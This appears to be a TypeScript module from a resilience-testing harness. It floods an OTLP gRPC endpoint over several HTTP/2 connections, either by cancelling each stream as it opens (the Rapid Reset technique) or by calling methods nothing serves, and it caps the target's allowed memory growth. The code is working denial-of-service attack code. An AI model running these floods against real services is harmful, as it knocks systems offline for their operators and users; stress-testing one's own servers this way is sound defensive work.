/** Calls that cost the caller nothing: cancelled as they are made, or of methods that nobody serves. */
import {addressOf, attack, type Target} from './attack.ts';
import {callHeaders, connectRaw, endHeaders, endStream, exportPath, http2Frame, http2Preface} from './http2-frames.ts';

/** For some seconds, over several connections; one that is cut off is made again. */
async function flood(target: Target, callOf: (stream: number) => Buffer): Promise<void> {
  const end = performance.now() + target.amount(15, 3) * 1000;
  const connections = Array.from({length: target.amount(6, 2)}, async () => {
    while (performance.now() < end) {
      const connection = connectRaw(addressOf(target, 'otlp_grpc'));
      await connection.send(http2Preface());
      for (let stream = 1; performance.now() < end && !connection.gone && stream < 2 ** 31; ) {
        const calls = [];
        for (let i = 0; i < 500; i++, stream += 2) calls.push(callOf(stream));
        await connection.send(Buffer.concat(calls));
      }
      connection.socket.destroy();
    }
  });
  await Promise.all(connections);
}

const cancel = Buffer.from([0, 0, 0, 8]);

export const rapidReset = attack({
  name: 'rapid-reset',
  about: '6 HTTP/2 connections that cancel each call as they make it, for 15 s',
  maxGrowthMib: 200,
  async run(target) {
    const headers = callHeaders(exportPath);
    await flood(target, (stream) =>
      Buffer.concat([http2Frame('headers', endHeaders, stream, headers), http2Frame('rst', 0, stream, cancel)]),
    );
    return [];
  },
});

export const unknownMethods = attack({
  name: 'unknown-methods',
  about: '6 HTTP/2 connections that call methods which nobody serves, for 15 s',
  maxGrowthMib: 200,
  async run(target) {
    const headers = callHeaders('/no.such.Service/Method');
    await flood(target, (stream) => http2Frame('headers', endHeaders | endStream, stream, headers));
    return [];
  },
});
